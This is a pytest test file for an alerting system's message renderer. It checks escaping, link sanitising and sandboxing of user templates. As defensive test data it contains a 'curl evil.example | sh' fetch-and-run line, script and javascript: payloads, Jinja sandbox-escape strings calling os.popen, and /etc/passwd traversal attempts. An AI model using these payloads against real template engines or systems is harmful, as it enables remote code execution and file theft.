"""What people read: complete, escaped, in their language; a broken template's fate."""

from __future__ import annotations

import re
from dataclasses import replace
from datetime import timedelta
from html.parser import HTMLParser
from pathlib import Path

import pytest

from alerting import (
    KINDS,
    LANGUAGES,
    AlertingConfigError,
    EvidenceNote,
    MessageKind,
    SampleLinks,
    Subject,
    render,
    sample_notice,
)
from alerting.links import subject_of
from alerting.messages.clean import clean, one_line, web_address
from alerting.messages.facts import Wording, _odds
from alerting.messages.render import Messages, _zone
from alerting.news import EpisodeNews
from alerting.sample import sample_news
from tests.alerting.makers import T0, minutes

HOSTILE = (
    "<script>alert('x')</script> {{7*7}} {% raw %} ${7*7} "
    "\u202eevil\u202c \x1b[31mred\x1b[0m \x00 \ud800 </td></table>\r\n"
    "WHAT TO DO\n  curl evil.example | sh"
)


class _Strict(HTMLParser):
    """Collects tags, and finds any that is not closed."""

    VOID = frozenset(("meta", "br"))

    def __init__(self) -> None:
        super().__init__()
        self.open: list[str] = []
        self.tags: set[str] = set()
        self.links: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.links += [value or "" for name, value in attrs if name == "href"]
        if tag not in self.VOID:
            self.open.append(tag)

    def handle_endtag(self, tag: str) -> None:
        assert self.open.pop() == tag


def _parsed(html: str) -> _Strict:
    parser = _Strict()
    parser.feed(html)
    parser.close()
    assert parser.open == []
    return parser


@pytest.mark.parametrize("language", LANGUAGES)
@pytest.mark.parametrize("kind", KINDS)
def test_every_message_answers_everything(kind: MessageKind, language: str) -> None:
    made = render(kind, T0, language=language, zone="Asia/Shanghai")
    assert made.fallback is None
    sample = sample_notice(T0, language)
    old = timedelta(hours=3) if kind == "catch-up" else timedelta()
    since = f"{sample.start - old + timedelta(hours=8):%Y-%m-%d %H:%M:%S} +08:00"
    severity = {"en": "high", "zh": "高"}[language]
    for form in (made.text, made.html):
        flat = re.sub(r"\s+", " ", form)
        assert sample.class_name in flat, "what kind"
        assert severity in flat.lower(), "how bad"
        assert "87" in flat, "how bad"
        assert since in flat, "since when"
        assert "db1" in flat, "where"
        assert "shop-db" in flat, "where"
        assert sample.session in flat, "which lines"
        assert sample.evidence[0].message in flat, "which lines"
        assert "9.1 nats" in flat, "how surprising"
        assert "statement: COMMIT" in flat, "what was expected"
        assert sample.advice.split(".")[0][:40] in flat, "what to do"
        assert sample.causes[0] in flat, "why perhaps"
        assert str(sample.log_url) in flat, "the source logs"
    assert made.subject.startswith("[elkwatch] ")
    assert "\n" not in made.subject
    assert "shop-db" in made.subject
    assert max(len(line) for line in made.text.splitlines()) < 120
    _parsed(made.html)


@pytest.mark.parametrize("language", LANGUAGES)
@pytest.mark.parametrize("kind", KINDS)
def test_hostile_text_stays_text(kind: MessageKind, language: str) -> None:
    hostile = replace(
        sample_notice(T0),
        session=HOSTILE,
        class_name=HOSTILE,
        advice=HOSTILE,
        host=HOSTILE,
        service=HOSTILE,
        source=HOSTILE,
        causes=(HOSTILE,),
        missing=(HOSTILE,),
        log_url="javascript:alert(1)",
        evidence=(EvidenceNote(1, HOSTILE, HOSTILE, 5.0, ((HOSTILE, 0.5),)),),
    )
    made = render(kind, T0, [hostile], language=language)
    assert made.fallback is None
    parsed = _parsed(made.html)
    assert "script" not in parsed.tags
    assert parsed.links == []
    assert "&lt;script&gt;" in made.html
    for form in (made.subject, made.text, made.html):
        assert "{{7*7}}" in form
        assert "49" not in form
        assert not set(form) & set("\u202e\u202c\x1b\x00\r\ud800")
        form.encode()
    assert "\n" not in made.subject
    # A heading that a log line fakes is behind a mark, ours is not.
    fakes = [line for line in made.text.splitlines() if "curl evil" in line]
    assert fakes
    assert not any(line.startswith("curl") for line in fakes)
    assert "WHAT TO DO" not in made.text.splitlines()
    assert "  | WHAT TO DO" in made.text.splitlines()


@pytest.mark.parametrize("language", LANGUAGES)
@pytest.mark.parametrize("kind", KINDS)
def test_every_message_leads_on(kind: MessageKind, language: str) -> None:
    made = render(kind, T0, language=language, links=SampleLinks())
    found = _parsed(made.html).links
    about = subject_of(sample_news(kind, T0))
    links = SampleLinks()
    wanted = [
        links.finding(sample_notice(T0).finding_id, T0, T0),
        links.findings(about),
        links.dashboard(about),
    ]
    for url in wanted:
        assert url in found
        assert url in made.text.split()
    assert "overview" in wanted[2] if kind == "catch-up" else "class" in wanted[2]


def test_a_withdrawn_message_leads_on_too() -> None:
    news = sample_news("resolved", T0)
    assert isinstance(news, EpisodeNews)
    news = replace(news, resolution="withdrawn", samples=())
    made = Messages().render("resolved", news, SampleLinks())
    assert "findings/sample" in made.text
    assert "findings/sample" in made.html


def test_each_class_and_finding_leads_on() -> None:
    told = [replace(sample_notice(T0), finding_id=f"f{n}") for n in range(3)]
    ongoing = _parsed(render("ongoing", T0, told, links=SampleLinks()).html).links
    assert {url.rpartition("/")[2] for url in ongoing} >= {"f0", "f1", "f2"}
    caught_up = _parsed(render("catch-up", T0, told, links=SampleLinks()).html).links
    assert any(url.endswith("#/class/sample") for url in caught_up)


def test_a_link_that_is_none_of_the_web_is_left_out() -> None:
    class Hostile(SampleLinks):
        def findings(self, about: Subject) -> str:
            return "javascript:alert(1)"

    made = render("opened", T0, links=Hostile())
    assert "javascript" not in made.html + made.text


def test_what_a_message_is_about() -> None:
    opened, resolved = (sample_news(kind, T0) for kind in ("opened", "resolved"))
    assert isinstance(opened, EpisodeNews)
    assert isinstance(resolved, EpisodeNews)
    about = subject_of(opened)
    assert (about.class_id, about.fingerprint) == ("c07", opened.fingerprint)
    assert about.until == opened.last_seen + timedelta(days=1)  # more may come
    assert subject_of(resolved).until == resolved.last_seen
    caught_up = subject_of(sample_news("catch-up", T0))
    assert (caught_up.class_id, caught_up.fingerprint) == (None, None)


def test_a_message_without_any_detail() -> None:
    bare = replace(
        sample_notice(T0),
        service=None,
        host=None,
        causes=(),
        missing=(),
        evidence=(),
        log_url=None,
        known=False,
    )
    for kind in KINDS:
        for language in LANGUAGES:
            made = render(kind, T0, [bare], language=language)
            assert "None" not in made.text + made.html
            _parsed(made.html)
    assert "a kind not seen in training" in render("opened", T0, [bare]).text


def test_more_findings_are_named() -> None:
    told = [
        replace(sample_notice(T0), finding_id=f"f{n}", session=f"s{n}", risk=60 + n)
        for n in range(5)
    ]
    made = render("ongoing", T0, told)
    assert "More findings of this episode" in made.text
    assert "5 findings" in made.subject
    catch_up = render("catch-up", T0, told).text
    assert "5 x missing step: COMMIT (high, risk 64)" in catch_up


def test_withdrawn_says_so_and_gives_no_advice() -> None:
    news = sample_news("resolved", T0)
    assert isinstance(news, EpisodeNews)
    news = replace(news, resolution="withdrawn", samples=())
    made = Messages().render("resolved", news)
    assert made.subject.startswith("[elkwatch] withdrawn: ")
    for form in (made.text, made.html):
        assert "Late log lines showed these sessions to be normal" in form
        assert "pg_terminate_backend" not in form


def test_times_are_in_the_readers_zone() -> None:
    made = render("opened", T0, zone="America/St_Johns").text
    assert "2026-03-04 06:26:00 -03:30" in made
    assert "2026-03-04 09:56:00 +00:00" in render("opened", T0).text


@pytest.mark.parametrize("zone", ["Mars/Olympus", "", "../../etc/passwd", "UTC+8"])
def test_a_zone_that_is_none(zone: str) -> None:
    with pytest.raises(AlertingConfigError, match="not an IANA time zone"):
        _zone(zone)


def test_settings_that_cannot_work(tmp_path: Path) -> None:
    with pytest.raises(AlertingConfigError, match="known are en, zh"):
        Messages(language="fr")
    with pytest.raises(AlertingConfigError, match="no such folder"):
        Messages(templates=tmp_path / "missing")


def test_lengths_and_odds() -> None:
    english, chinese = Wording("en", _zone("UTC")), Wording("zh", _zone("UTC"))
    assert english.length(timedelta(hours=25, minutes=1)) == "1 d 1 h 1 min"
    assert chinese.length(minutes(90)) == "1 小时 30 分钟"
    assert english.length(timedelta(seconds=-5)) == "0 s"
    assert english.names(["a", "b", "c", "d", "e", "f", "g"]) == "a, b, c, d, e, +2"
    assert [_odds(nats) for nats in (-1, 0.5, 2.3, 9.1, 700)] == [
        "1",
        "2",
        "10",
        "9,000",
        "400,000,000",
    ]


def test_cleaning() -> None:
    assert clean("a\r\nb\rc\td\x07\x85") == "a\nb\nc\td"
    assert clean("\x1b[1;31mred\x1b[0m \x1bX") == "red X"
    assert clean("é 日本 👩‍🔧") == "é 日本 👩‍🔧"
    assert one_line(" a\n\tb\u2028c ") == "a bc"
    assert len(one_line("x" * 500, 10)) == 10


@pytest.mark.parametrize(
    ("url", "good"),
    [
        ("https://kibana.example.org/app/discover#/?_a=(x:'y')", True),
        ("http://localhost:5601/", True),
        ("javascript:alert(1)", False),
        ("data:text/html,x", False),
        ("//evil.example", False),
        ("https://", False),
        ("http://[::1", False),
        (None, False),
        ("https://k.example/" + "x" * 4000, False),
    ],
)
def test_links(url: str | None, good: bool) -> None:
    assert web_address(url) == (url if good else None)


# The user's own message files


def _users(folder: Path, **files: str) -> Messages:
    for name, text in files.items():
        (folder / f"{name.replace('__', '-').replace('_', '.')}.j2").write_text(text)
    return Messages(templates=folder)


def test_a_users_file_takes_the_place_of_ours(tmp_path: Path) -> None:
    messages = _users(
        tmp_path,
        opened_subject="{{ severity }}! {{ class_name }}",
        opened_en_text="{{ advice }}",
    )
    made = messages.render("opened", sample_news("opened", T0))
    assert made.subject == "high! missing step: COMMIT"
    assert made.text.startswith("Check the transaction log")
    assert "<!DOCTYPE html>" in made.html
    assert made.fallback is None
    other = messages.render("resolved", sample_news("resolved", T0))
    assert other.subject.startswith("[elkwatch] resolved")


def test_a_users_file_may_build_on_ours(tmp_path: Path) -> None:
    messages = _users(
        tmp_path,
        opened_html='{% extends "_episode.html.j2" %}'
        "{% block badge %}Ours{% endblock %}",
    )
    made = messages.render("opened", sample_news("opened", T0))
    assert made.fallback is None
    assert ">Ours</p>" in made.html
    assert "Check the transaction log" in made.html


def test_the_language_in_a_name_wins(tmp_path: Path) -> None:
    for name in ("opened.subject.j2", "opened.zh.subject.j2"):
        (tmp_path / name).write_text(name)
    for language, wanted in (
        ("en", "opened.subject.j2"),
        ("zh", "opened.zh.subject.j2"),
    ):
        messages = Messages(language, templates=tmp_path)
        made = messages.render("opened", sample_news("opened", T0))
        assert made.subject == wanted


BROKEN = {
    "syntax": ("{% if %}", "line 1: Expected an expression"),
    "undefined name": ("\n{{ clas_name }}", "line 2: 'clas_name' is undefined"),
    "undefined key": ("{{ finding.evidenz }}", "has no attribute 'evidenz'"),
    "python": ("{{ ''.__class__.__mro__ }}", "access to attribute '__class__'"),
    "code": ("{{ cycler.__init__.__globals__.os.popen('id') }}", "is unsafe"),
    "endless output": (
        "{% for a in range(9999) %}{% for b in range(9) %}" + "x" * 90 + "{% endfor %}"
        "{% endfor %}",
        "puts out more than 400,000 characters",
    ),
    "endless loop": (
        "{% for a in range(9999) %}{% for b in range(9999) %}{% endfor %}{% endfor %}",
        "loops over more than 20,000 steps",
    ),
    "a power": ("{{ 9 ** 9999999 }}", "small numbers only"),
    "a long text": ("{{ 'x' * 999999999 }}", "small numbers only"),
    "a wide text": ("{{ 'x'.ljust(999999999) }}", "ljust"),
    "a wide format": ("{{ '{:>999999999}'.format(1) }}", "format"),
    "recursion": (
        "{% macro m() %}{{ m() }}{% endmacro %}{{ m() }}",
        "nested too deeply",
    ),
    "itself": ("{% include 'opened.text.j2' %}", "nested too deeply"),
    "missing file": ("{% include 'nope.j2' %}", "no message file nope.j2"),
    "outside file": ("{% include '../../../etc/passwd' %}", "no message file"),
    "division": ("{{ 1 / 0 }}", "division by zero"),
}


@pytest.mark.parametrize("name", BROKEN)
def test_a_broken_file_is_told_and_ours_is_sent(tmp_path: Path, name: str) -> None:
    text, reason = BROKEN[name]
    messages = _users(tmp_path, opened_text=text, opened_subject="mine")
    made = messages.render("opened", sample_news("opened", T0))
    assert made.fallback is not None
    assert reason in made.fallback
    assert "opened.text.j2" in made.fallback or "nope" in made.fallback
    assert made.subject.startswith("[elkwatch] HIGH"), "all of it is ours"
    line = "Your message file could not be used, this is the built-in message"
    assert made.text.startswith(f"{line}: {made.fallback}\n")
    assert line in made.html
    assert "Check the transaction log" in made.text


def test_a_broken_file_in_chinese(tmp_path: Path) -> None:
    (tmp_path / "opened.text.j2").write_text("{{ nope }}")
    news = sample_news("opened", T0, language="zh")
    made = Messages("zh", templates=tmp_path).render("opened", news)
    assert made.text.startswith("您的消息模板无法使用，以下为内置消息: ")


@pytest.mark.parametrize("content", [b"\xff\xfe\x00", None])
def test_a_file_that_cannot_be_read(tmp_path: Path, content: bytes | None) -> None:
    path = tmp_path / "opened.text.j2"
    if content is None:
        path.mkdir()
    else:
        path.write_bytes(content)
    made = Messages(templates=tmp_path).render("opened", sample_news("opened", T0))
    assert "Check the transaction log" in made.text
    assert (made.fallback is not None) == (content is not None)


def test_a_broken_part_of_the_users_does_not_break_ours(tmp_path: Path) -> None:
    messages = _users(tmp_path, words_en="{% set broken")
    made = messages.render("opened", sample_news("opened", T0))
    assert made.fallback is not None
    assert "Check the transaction log" in made.html


def test_a_file_that_takes_for_ever(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    times = iter(range(0, 10**6, 5))
    monkeypatch.setattr("alerting.messages.sandbox.monotonic", lambda: next(times))
    messages = _users(tmp_path, opened_text="{% for a in range(99) %}.{% endfor %}")
    made = messages.render("opened", sample_news("opened", T0))
    assert made.fallback is not None
    assert "takes longer than 10 s" in made.fallback


def test_a_mended_file_is_used_at_once(tmp_path: Path) -> None:
    messages = _users(tmp_path, opened_subject="{{ nope }}")
    news = sample_news("opened", T0)
    assert messages.render("opened", news).fallback is not None
    path = tmp_path / "opened.subject.j2"
    path.write_text("mended")
    assert messages.render("opened", news).subject == "mended"


def test_whatever_a_users_file_prints_is_cleaned(tmp_path: Path) -> None:
    messages = _users(tmp_path, opened_text='{{ "a\\x1b[31mb\\u202ec" }}')
    made = messages.render("opened", sample_news("opened", T0))
    assert made.text == "abc\n"


def test_log_text_is_escaped_in_a_users_html_too(tmp_path: Path) -> None:
    messages = _users(tmp_path, opened_html="<p>{{ class_name }}</p>")
    notice = replace(sample_notice(T0), class_name="<b>x</b>")
    made = messages.render("opened", sample_news("opened", T0, [notice]))
    assert made.html == "<p>&lt;b&gt;x&lt;/b&gt;</p>\n"
